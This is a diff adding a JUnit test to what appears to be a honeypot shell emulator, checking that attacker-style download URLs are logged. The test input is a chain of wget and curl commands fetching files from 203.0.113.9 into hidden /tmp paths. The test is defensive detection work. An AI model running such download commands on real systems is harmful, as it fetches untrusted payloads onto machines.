@@ -132,6 +132,26 @@ class ShellSessionTest {
     }
 
     @Test
+    void theAddressOfADownloadIsFoundAmongOptionsInAnyOrder() {
+        exec("wget http://203.0.113.9/a -O /tmp/.a; wget -q -O /tmp/.b -t 3 203.0.113.9/b; wget -qO-"
+                + " http://203.0.113.9/c; wget --tries 2 --output-document=/tmp/x.y http://203.0.113.9/d"
+                + " http://203.0.113.9/e; curl -o /tmp/f.sh 203.0.113.9/f; curl http://203.0.113.9/g -H 'Referer:"
+                + " http://a.b/' -o /tmp/g");
+
+        assertThat(events)
+                .filteredOn(seen -> seen.type().equals("download_attempt"))
+                .extracting(seen -> seen.fields().get("url"))
+                .containsExactly(
+                        "http://203.0.113.9/a",
+                        "http://203.0.113.9/b",
+                        "http://203.0.113.9/c",
+                        "http://203.0.113.9/d",
+                        "http://203.0.113.9/e",
+                        "203.0.113.9/f",
+                        "http://203.0.113.9/g");
+    }
+
+    @Test
     void whatOneSessionWritesTheNextOneFinds() {
         exec("echo kept > /root/note");
 
